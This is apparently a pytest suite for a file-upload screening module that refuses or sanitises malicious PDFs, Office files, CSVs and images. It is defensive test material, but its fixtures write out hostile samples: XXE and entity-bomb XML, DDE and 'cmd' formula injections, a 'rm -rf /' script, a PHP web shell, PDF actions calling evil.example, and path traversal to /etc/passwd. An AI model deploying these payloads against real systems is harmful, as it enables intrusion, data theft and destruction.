"""Files that somebody made to harm: each is refused with a message one understands, or made harmless."""

from __future__ import annotations

import io
import resource
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path

import pikepdf
import pypdf
import pytest
from pikepdf import String
from PIL import Image

from portal.platform.confined import SECONDS
from portal.platform.screening.screening import screen_file
from portal.platform.screening.values import LARGEST, ScreeningRefused
from tests.platform.screening import other_files as other
from tests.platform.screening import pdf_files as pdfs
from tests.platform.screening import worse_pdfs as worse
from tests.platform.screening.pdf_files import acting, annotation, changed, clean_pdf
from tests.platform.screening.worse_others import WORSE_OTHERS, between_parts

Make = Callable[[], bytes]
PNG, JPEG = lambda: other.picture("PNG"), lambda: other.picture("JPEG")
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
FIELD = "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r></w:p>"

REFUSED: dict[str, tuple[str, Make, str]] = {
    # not what it says
    "a program called PDF": ("report.pdf", lambda: b"MZ\x90\x00" + bytes(500), "wrong_content"),
    "a program in script": ("report.csv", lambda: b"#!/bin/sh\nrm -rf /\n", "wrong_content"),
    "a page called table": ("list.csv", lambda: b"<html><script>alert(1)</script></html>", "wrong_content"),
    "a drawing called table": ("list.csv", lambda: b"<svg onload='alert(1)'/>", "wrong_content"),
    "binary called table": ("list.csv", lambda: b"a,b\n\x00\x01\x02,d\n", "wrong_content"),
    "a PNG called PDF": ("scan.pdf", PNG, "wrong_content"),
    "a PDF called PNG": ("scan.png", clean_pdf, "wrong_content"),
    "a JPEG called PNG": ("scan.png", JPEG, "wrong_content"),
    "a letter called workbook": ("book.xlsx", other.letter, "wrong_content"),
    "an archive called letter": ("a.docx", lambda: other.repacked(other.workbook()), "wrong_content"),
    "an old Office file": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "wrong_content"),
    "PDF behind a page": ("a.pdf", lambda: b"<html></html>\n" + clean_pdf(), "wrong_content"),
    "nothing": ("a.pdf", lambda: b"", "empty"),
    "a program by name": ("setup.exe", clean_pdf, "type_not_accepted"),
    "two extensions": ("invoice.pdf.js", clean_pdf, "type_not_accepted"),
    "a macro workbook by name": ("book.xlsm", other.workbook, "type_not_accepted"),
    "no extension": ("README", clean_pdf, "type_not_accepted"),
    "reversed extension": ("invoice\u202efdp.exe", clean_pdf, "type_not_accepted"),
    # locked, broken, far too large
    "a PDF with a password": ("a.pdf", lambda: pdfs.with_password("o", "u"), "locked"),
    "half a PDF": ("a.pdf", lambda: clean_pdf(pages=40)[:300], "damaged"),
    "half a PNG": ("a.png", lambda: PNG()[:60], "damaged"),
    "half a workbook": ("a.xlsx", lambda: other.workbook()[:900], "damaged"),
    "a page that inflates to 300 MB": ("a.pdf", lambda: changed(pdfs.bomb), "too_large"),
    "a picture of 8 billion points in a PDF": ("a.pdf", lambda: changed(pdfs.huge_picture), "too_large"),
    "lists within lists": ("a.pdf", lambda: changed(pdfs.deep), "damaged"),
    "30,000 × 30,000 points": ("a.png", other.huge_png, "too_large"),
    "a workbook of 300 MB": ("a.xlsx", lambda: other.zeros_inside(other.workbook(), 300), "too_large"),
    "an archive that lies": ("a.xlsx", lambda: other.lying_about_size(other.workbook()), "damaged"),
    "a locked part": ("a.docx", lambda: other.lock_flagged(other.letter()), "locked"),
    "larger than allowed": ("a.pdf", lambda: b"%PDF-1.7" + bytes(LARGEST), "too_large"),
    "250 MB behind a spelling": ("a.pdf", worse.hexed_bomb, "too_large"),
    "250 MB of runs": ("a.pdf", worse.run_length_bomb, "too_large"),
    "200 MB in codes": ("a.pdf", worse.lzw_bomb, "too_large"),
    "packed five times": ("a.pdf", worse.packed_four_times, "too_large"),
    "objects that unpack to 700 MB": ("a.pdf", worse.packed_objects_bomb, "damaged"),
    "pages within themselves": ("a.pdf", worse.page_loop, "damaged"),
    "a hundred thousand brackets": ("a.pdf", worse.brackets, "damaged"),
    "six hundred thousand objects": ("a.pdf", worse.many_objects, "too_large"),
    "locked by certificate": ("a.pdf", worse.locked_by_certificate, "locked"),
    # acts
    "a signed PDF with a script": ("a.pdf", lambda: changed(pdfs.signed_script), "signed_and_active"),
    "macros": ("a.xlsx", lambda: other.repacked(other.workbook(), {"xl/vbaProject.bin": b"\x00"}), "active"),
    "an embedded object": ("a.docx", lambda: other.repacked(other.letter(), {"word/embeddings/o.bin": b"x"}), "active"),
    "a control": ("a.docx", lambda: other.repacked(other.letter(), {"word/activeX/activeX1.xml": "<a/>"}), "active"),
    "a template from elsewhere": (
        "a.docx",
        lambda: other.repacked(
            other.letter(),
            {
                "word/_rels/settings.xml.rels": other.RELATION.format(
                    kind="attachedTemplate", target="https://evil.example/t.dotm"
                )
            },
        ),
        "active",
    ),
    "a link to a program": (
        "a.docx",
        lambda: other.repacked(
            other.letter(), {"word/_rels/footer9.xml.rels": other.RELATION.format(kind="hyperlink", target="file:///c:/x.exe")}
        ),
        "active",
    ),
    "an entity from a file": ("a.xlsx", lambda: other.repacked(other.workbook(), {"xl/x.xml": XXE}), "active"),
    "entities of entities": ("a.docx", lambda: other.repacked(other.letter(), {"word/x.xml": LAUGHS}), "active"),
    "a field in pieces": (
        "a.docx",
        lambda: other.repacked(other.letter(), replaced={"word/document.xml": ("</w:p>", FIELD)}),
        "active",
    ),
    "a formula that runs": ("a.xlsx", lambda: other.workbook(("=cmd|'/c calc'!A0",)), "active"),
    "a formula that fetches": ("a.xlsx", lambda: other.workbook(('=WEBSERVICE("https://evil.example")',)), "active"),
    "a table that runs": ("a.csv", lambda: b"name,amount\n=cmd|'/c calc'!A0,1\n", "formula"),
    "a table that runs after a sign": ("a.csv", lambda: b"name;amount\n+SUM(1+1)*cmd|' /C calc'!A0;1\n", "formula"),
    # two in one
    "parts outside the archive's tree": (
        "a.xlsx", lambda: other.repacked(other.workbook(), {"../../etc/passwd": b"x"}), "two_files_in_one",
    ),
    "one part twice": (
        "a.xlsx", lambda: other.repacked(other.workbook(), {"XL/Workbook.xml": b"x"}), "two_files_in_one",
    ),
}  # fmt: skip
REFUSED |= WORSE_OTHERS
HARMLESS_AFTER: dict[str, Make] = {
    "a script when opened": lambda: changed(pdfs.open_action),
    "a script with a name": lambda: changed(pdfs.named_script),
    "a script of a page": lambda: changed(pdfs.page_action),
    "a script behind an action": lambda: changed(pdfs.indirect_chain),
    "a program started": lambda: changed(pdfs.launch),
    "a form sent": lambda: changed(annotation(acting("SubmitForm", F=String("https://evil.example")))),
    "another file opened": lambda: changed(annotation(acting("GoToR", F=String("\\\\evil\\share")))),
    "a link that is a script": lambda: changed(annotation(acting("URI", URI=String("javascript:alert(1)")))),
    "a link to a file": lambda: changed(annotation(acting("URI", URI=String("file:///etc/passwd")))),
    "an attached program": lambda: changed(pdfs.attached),
    "a dynamic form": lambda: changed(pdfs.dynamic_form),
    "a film": lambda: changed(pdfs.media),
    "contents elsewhere": lambda: changed(pdfs.outside_stream),
    "a lock against editing": lambda: pdfs.with_password("owner", ""),
    "an archive behind the end": lambda: clean_pdf() + other.workbook(),
    "a page behind the end": lambda: clean_pdf() + b"<html><script>alert(1)</script></html>",
    "scripts in packed objects": lambda: changed(
        pdfs.named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "a table of contents that loops": worse.table_loop,
    "a page in front": worse.page_in_front,
    "a script of an earlier version": worse.earlier_script,
} | {case: partial(changed, change) for case, change in worse.CHANGES.items()}
ACTS = (
    b"/JavaScript",
    b"/JS",
    b"/Launch",
    b"/SubmitForm",
    b"/GoToR",
    b"/XFA",
    b"/RichMedia",
    b"/EmbeddedFile",
    b"evil",
)


@pytest.fixture
def files(tmp_path: Path) -> tuple[Path, Path]:
    return tmp_path / "given", tmp_path / "kept"


@contextmanager
def within_its_bounds() -> Iterator[None]:
    """What judges a file is a process of its own: what it took of the processor. Its memory is bounded by its address
    space; what the system tells of it afterwards is at least as much as this process has."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    try:
        yield
    finally:
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        assert (after.ru_utime + after.ru_stime) - (before.ru_utime + before.ru_stime) <= SECONDS + 1  # and its start


@pytest.mark.parametrize("case", REFUSED)
def test_it_is_refused_with_its_reason(files: tuple[Path, Path], case: str) -> None:
    name, make, code = REFUSED[case]
    files[0].write_bytes(make())
    with pytest.raises(ScreeningRefused) as refusal, within_its_bounds():
        screen_file(*files, name)
    assert refusal.value.code == code
    assert len(refusal.value.message.split(". ")) >= 2, "what happened, and what to do"
    assert not files[1].exists(), "nothing is kept"


@pytest.mark.parametrize("case", HARMLESS_AFTER)
def test_it_is_harmless_afterwards_and_says_the_same(files: tuple[Path, Path], case: str) -> None:
    files[0].write_bytes(HARMLESS_AFTER[case]())
    with within_its_bounds():
        screened = screen_file(*files, "statement.pdf")
    assert screened.removed
    with pikepdf.open(files[1]) as document:
        assert not document.is_encrypted
        loose = io.BytesIO()
        document.save(loose, object_stream_mode=pikepdf.ObjectStreamMode.disable, qdf=True)
    assert not [mark for mark in ACTS if mark in loose.getvalue()]
    assert "Capital account statement 1" in pypdf.PdfReader(files[1]).pages[0].extract_text()
    assert screen_file(files[1], files[0], "again.pdf").removed == (), "a second look finds nothing"


def test_what_a_picture_carries_is_gone(files: tuple[Path, Path]) -> None:
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"
    exif.get_ifd(0x8825)[2] = (47.0, 22.0, 0.0)
    files[0].write_bytes(other.picture("JPEG", exif=exif) + other.workbook() + b"<?php system($_GET['c']); ?>")
    screen_file(*files, "scan.jpg")
    kept = files[1].read_bytes()
    assert b"script" not in kept
    assert b"php" not in kept
    assert b"PK\x03\x04" not in kept
    with Image.open(files[1]) as picture:
        assert not picture.getexif()


def test_what_lies_between_the_parts_of_a_workbook_is_gone(files: tuple[Path, Path]) -> None:
    files[0].write_bytes(between_parts())
    screen_file(*files, "book.xlsx")
    assert b"evil" not in files[1].read_bytes()


def test_the_corpus_is_as_large_as_promised() -> None:
    assert len(REFUSED) + len(HARMLESS_AFTER) >= 120
